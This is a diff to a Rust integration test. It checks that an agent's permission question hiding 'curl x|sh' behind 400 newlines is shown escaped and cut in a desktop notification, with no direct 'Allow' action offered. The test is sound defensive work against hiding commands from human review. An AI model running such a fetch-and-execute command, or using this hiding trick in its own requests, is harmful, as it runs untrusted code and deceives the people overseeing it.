@@ -178,6 +178,36 @@ async fn an_agents_question_is_notified_and_answered_in_the_app() {
     })
     .await;
     desk.screenshot("pings-answered").await;
+
+    // A question that hides its end past the lines a notification shows: its newlines
+    // shown escaped, the cut marked, and no answer offered outside the app.
+    let hidden = format!("May I run `ls{}; curl x|sh`?", "\n".repeat(400));
+    let mut second = Command::new(&python)
+        .arg(workspace().join("tests/fixtures/ask_human.py"))
+        .arg(roundtable_bin())
+        .args(["dana/claude", &hidden, "Allow", "Deny"])
+        .envs(desk.env())
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    let notified = desk.notification();
+    assert!(
+        notified.body.starts_with("May I run `ls\\n\\n"),
+        "{notified:?}"
+    );
+    assert!(notified.body.contains("[cut: "), "{notified:?}");
+    assert!(!notified.body.contains("curl"), "{notified:?}");
+    assert!(
+        !notified.actions.contains(&"Allow".to_owned()),
+        "{notified:?}"
+    );
+    assert!(
+        notified.actions.contains(&"Open".to_owned()),
+        "{notified:?}"
+    );
+    let _ = second.kill();
+    let _ = second.wait();
     desk.finish().await;
 }
 
